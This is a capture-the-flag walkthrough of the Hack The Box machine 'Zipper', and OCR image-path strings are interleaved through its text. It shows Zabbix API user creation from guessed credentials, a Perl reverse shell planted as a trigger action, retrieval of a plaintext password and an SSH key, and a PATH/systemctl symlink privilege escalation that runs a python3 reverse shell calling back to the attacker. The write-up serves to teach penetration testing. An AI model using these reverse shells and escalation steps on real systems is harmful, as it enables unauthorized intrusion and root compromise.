Hack The Box - Zipper

8 minute read



This machine took a bit of thinking outside of the box so it was a bit of a nice challenge and involved exploiting both custom binaries and legitimate services offered. Although a real life test may not be identical to this, it does highlight a lot of elements that one may find during a typical penetration test which may be able to be used to remotely compromise a system and elevate privileges.

Gaining Access

  • Easily guessed credentials
  • Create user through ZabbixAPI
  • Webshell through Zipper agent, spawn TTY
  • Password stored in plaintext (backup.sh)

Elevating Privileges

  • SUID bit set on a vulnerable binary
  • Vulnerable Zabbix service, create a fake one
  • Change PATH variable
  • Create Symlinkfor systemctl


First off I enumerated open ports with Nmap.

nmap -sC -sV -oA Zipper

This revealed a web service open on port 80. As its base URL was the default apache page, I tried to enumerate any common sub-directories.

gobuster -u -w /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt

Thisenumerated the sub-directory

When viewing this page I was presented with a web login form containing a link to login as a guest. Having no luck with some common username and password combinations, I used the guest logon.

Logging into the web portalpresented a standard Zabbix interface but no real administrative access.

Easily guessed credentials

Under the monitoring web interface I noticed there was a section called latest data which had an unusual entry:

Zapper’s Backup Script

From this I was under the assumption that Zapper was a legitimate user, so I attempted to guess it with the password Zapper, but this failed to log me on. Wanting to ensure I covered all bases, I tried lowercase and received a different error message:

Enumeration through error messages

Excellent, well sort of. I now knew that the username and password was correct, but I didn’t have access to login via the web. Thinking there may be an exploit available I went searching.

searchsploit zabbix

Plenty of exploits, but upon searching only one was going to be useful,39937.py, so I cloned it and took a look at what I had available.

searchsploit -m 39937.py
cat 39937.py

To my surprise the exploit required ahostid to be successful; however, this information wasn’t readily available to me without access to the Zabbix GUI, so I was out of luck.

Something I did find interesting was the url mentioning api_jsonrpc.php, so I went off and looked into the Zabbix JSON-RPC API.


Although I spent some time looking around around for various tools that use the Zabbix API, and came up with nice looking tools.


I also realised that I could use the web api to make requests without logging into the GUI interface by posting appropriate json strings to /zabbix/api_jsonrpc.php. This was the avenue I ended up taking, so I went back to reading the manual once more.Create user through Zabbix API

Hooray for manuals. Based on this, I concluded that I would first have to authenticate using the zapper account. So by posting the below to

{ "jsonrpc": "2.0", "method": "user.login", "params": { "user": "zapper", "password": "zapper" }, "id": 1 }

I received the below response:

        "jsonrpc": "2.0",
        "result": "ca4957e39c7f516f0e9233ade89e1a19",
        "id": 1

Now that I had a token to use for authenticated commands, I checked what groups were available by a post request.

{"jsonrpc": "2.0", "method": "usergroup.get", "params": { "output": "extend", "status": 0 }, "auth":"ca4957e39c7f516f0e9233ade89e1a19", "id": 1 }

This revealed that there were a number of user groups which could be assigned, one of which gave me the access I needed. So following the documentation to create a user.


After one final POST request:

"jsonrpc": "2.0",
"method": "user.create",
"params": {
    "alias": "JPMinty",
    "passwd": "devsecops",
    "usrgrps": [
            "usrgrpid": "7"
    "user_medias": [
            "mediatypeid": "1",
            "sendto": "[email protected]",
            "active": 0,
            "severity": 63,
            "period": "1-7,00:00-24:00""auth": "ca4957e39c7f516f0e9233ade89e1a19",
"id": 1

I had created a user which could be used to get onto the web interface.

Webshell through Zipper agent, spawn TTY

After logging onto the web interface I found a tab called triggers which contained 2 hosts, Zabbix and Zipper. Within this area I was able to create custom scripts which would execute on a host if they were triggered.

Figuring this was as good a spot as any to go for a web shell, I setup a netcat listener to catch the reverse shell.netcat -nlvp 8000

I then created a trigger action which used perl to initiate a connection to my machine through its open socket. In short this is a common reverse shell which can be used if perl is available with no restrictions.

perl -e 'use Socket;$i="";$p=8000;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'

After executing the action on the Zabbix host, I quickly realised I’d gone down a rabbit hole and had nothing available to move forward. Thinking back to what was originally used to gain access (zapper), lead me to try the other hose, Zapper, perhaps the user had a typo? Only one way to find out.

Success! At this point I had a very unstable shell which could drop out at any moment, so I had to look around quickly. Firstly I wanted to know what user I had compromised.Okay, so I managed to get a limited, unstable shell as the zabbix account, well better than nothing…

Password stored in plaintext

From here I found a ‘utils’ directory, and after looking inside of at the ‘backup.sh’ script previously seen, I found some plaintext credentials.

cd utils
ls -la
cat backup.sh

Quick script to backup all utilities in this folder to /backups
/usr/bin/7z a /backups/zapper_backup-$(/bin/date +%F).7z -pZippityDoDah /home/zapper/utils/* &>/dev/null

Excellent, I now have some credentials for zapper. I thought I’d just be able to use su to elevate tozapper’s account using this password.

su - zapper

no tty present and no askpass program specified

Owch, of course I hadn’t spawned a TTY shell so I couldn’t use the super user function. Thinking I could use a python script to do this I echo’d one to a file and gave it a shot, but without luck…

cd /tmp
echo "import pty; pty.spawn('/bin/bash')" > /tmp/elevate.py
python elevate.py

Command ‘python’ not found

You also have python3 installed, you can run ‘python3’ instead.

Oops, I may have neglected to check whether python was installed or not, but at least it has python3. Trying one last time.

python3 elevate.py

Gaining Access

Bingo, I had a TTY shell, now after using the super user command and entering the password obtained.

su - zapper
Password: ZippityDoDah

I had successfully logged in as zapper.cat user.txt

User.txt: aa29e … 8fe33

At this point I wanted to take a bit of a breather, but I knew I’d have to go through all of this again if I was to lose my shell, so I checked if there was a SSH key I could use to get back in if everything falls apart.

cd .ssh
ls -la
cat id_rsa

Lucky! it’s not always you can find valid SSH keys; however, they can save you a lot of pain with unstable reverse shells, so it’s always good to look for them if you find yourself on a linux machine.

After saving the key to my local machine and securing it using chmod 600 (this changes it to only have read/write permissions).

chmod 600 rsa_id

I now had a way to get back in without the need for a shell. How nice!

ssh -i rsa_id zapper@

When looking for privilege escalation opportunities, one of the first things I like to look for on a linux system is anything which has the ‘SUID’ or ‘SGID’ bits set. These are referred to as the set user ID and set group ID bits which essentially allow an executable to be run with the privileges of its owner or group.

When we have one of these set on an executable owned by someone with elevated privileges, it can often lead to a privilege escalation opportunity if the executable has any vulnerabilities.

SUID bit set on a vulnerable binary

I searched for any binaries with the SUID bit set, and I found an unusual entry.

find / -perm -u=s -type f 2>/dev/null


Hmmm, the zabbix service executable is set to run with root privileges, figuring this may be full of holes I used the ‘strings’ command to find any unicode or ascii characters within the executable which may give away a potential vulnerability. There was one line which stood out more than any other.strings utils/zabbix-service

Vulnerable Zabbix Service, create a fake one

systemctl daemon-reload && systemctl start zabbix-agent

This section looked like it could be exploited bymodifying our PATH variable. **A nice example of how the PATH variable can be exploited in conjunction with vulnerable executables can be found below:


For the purpose of this machine, I created my own daemon-reload file in the hope that I could then create a link from systemctl to /bin/sh so thatit would be executedwith root permissions.

Considering I knew python3 was already available I thought this was a good bet as I still wanted an elevated shell.

cd utils
nano daemon-reload
python3 -c 'import socket,subprocess,os;
s.connect(("",8000));os.dup2(s.fileno(),0); > os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'

I then needed to make the file executable.

chmod +x daemon-reload

At this point I wanted to create a symbolic link which would then ensure that anytime systemctl was called, it would instead execute a shell command. For this to work I also ensured I set my working path as the current directory I was in and executed the zabbix service asking it to start.

ln -s /bin/shsystemctl
export PATH=.:$PATH

Back on my host machine I setup a netcat listener one more time.

netcat -nlvp 8000

Elevating Privileges

Hoping all would go well, I started the zabbix service.


listening on [any] 8000 … connect to [] from (UNKNOWN) [] 54970



Victory! It wastime to take my prize and move on with my life…

cat /root/root.txt

Root.txt: a7c74 … eab6e

FinalNotes

At the time of writing other HTB members had rated the machine elements as shown below. Feel free to reach out and provide any feedback or let me know if this helped.